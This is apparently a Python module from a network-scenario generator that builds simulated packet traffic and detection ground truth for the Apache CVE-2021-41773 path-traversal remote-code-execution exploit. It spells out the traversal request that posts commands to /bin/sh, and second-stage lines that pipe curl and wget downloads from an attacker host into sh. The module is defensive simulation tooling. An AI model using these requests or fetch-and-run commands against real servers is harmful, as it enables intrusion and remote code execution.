"""Exploitation of a public-facing web application (ATT&CK T1190).

The exploit is Apache httpd's path traversal to CGI execution (CVE-2021-41773): a
``/cgi-bin/.%2e/.%2e/...`` request that runs ``/bin/sh`` with the POST body as its
script, followed by the second stage the shell downloads from the attacker.
"""

from __future__ import annotations

from pydantic import Field

from scenarios.frames import address_sco, url_host
from scenarios.protocols.http import http_request, http_response, http_session
from scenarios.techniques.base import Context, Emission, GroundTruth, Technique, TechniqueParams


class WebExploitParams(TechniqueParams):
    depth: int = Field(default=4, ge=1, le=12)
    """How many ``.%2e/`` steps climb out of the CGI directory."""
    command: str = "id; uname -a"
    """The first command the exploit runs."""
    stage_path: str = "/s/k.sh"
    """Where on the attacker's server the second stage lives."""
    user_agent: str = "Mozilla/5.0 zgrab/0.x"


class WebExploit(Technique):
    """CVE-2021-41773 path traversal to RCE against the target's web server."""

    name = "web-exploit"
    attack_ids = ("T1190",)
    summary = "Path traversal RCE against a public web application"
    Params = WebExploitParams

    def generate(self, ctx: Context, params: WebExploitParams) -> Emission:  # type: ignore[override]
        rng = ctx.rng
        port = ctx.target.services.get("http", 80)
        host = ctx.target.name_or_ip
        shell = "/cgi-bin/" + ".%2e/" * params.depth + "bin/sh"
        stage_url = f"http://{url_host(ctx.attacker.ip)}{params.stage_path}"

        def run_in_shell(script: str) -> bytes:
            """The exploit request: ``script`` posted to /bin/sh through the traversal."""
            return http_request(
                "POST",
                shell,
                host,
                headers=[("Content-Type", "application/x-www-form-urlencoded")],
                body=script.encode(),
                user_agent=params.user_agent,
            )

        probe = http_request("GET", "/", host, user_agent=params.user_agent)
        first = run_in_shell(f"echo Content-Type: text/plain; echo; {params.command}")
        second = run_in_shell(f"echo; curl -s {stage_url} | sh")
        output = (
            b"uid=33(www-data) gid=33(www-data) groups=33(www-data)\nLinux portal 6.1.0-18-amd64\n"
        )
        session = http_session(
            ctx.attacker,
            ctx.target,
            port,
            ctx.start,
            rng,
            [
                (probe, http_response(200, b"<html><body>Visa portal</body></html>")),
                (first, http_response(200, output, content_type="text/plain")),
                (second, http_response(200, b"\n", content_type="text/plain")),
            ],
        )
        # The shell fetches the second stage from the attacker: the victim calls out.
        stage = http_session(
            ctx.target,
            ctx.attacker,
            80,
            session.now + 0.3,
            rng,
            [
                (
                    http_request(
                        "GET",
                        params.stage_path,
                        url_host(ctx.attacker.ip),
                        user_agent="curl/7.88.1",
                    ),
                    http_response(
                        200, b"#!/bin/sh\nwget -qO- http://x/m | sh\n", content_type="text/x-sh"
                    ),
                )
            ],
        )
        packets = sorted(session.packets + stage.packets, key=lambda p: p.time)
        truth = GroundTruth(
            observables=(
                address_sco(ctx.attacker.ip),
                {"type": "url", "value": f"http://{host}{shell}"},
                {"type": "url", "value": stage_url},
            ),
            pattern=(
                "[network-traffic:extensions.'http-request-ext'.request_value "
                r"MATCHES '^/cgi-bin/(\\.%2e/)+']"
            ),
            description=f"CVE-2021-41773 RCE on {host} and second stage from {stage_url}",
        )
        return Emission(tuple(packets), truth)
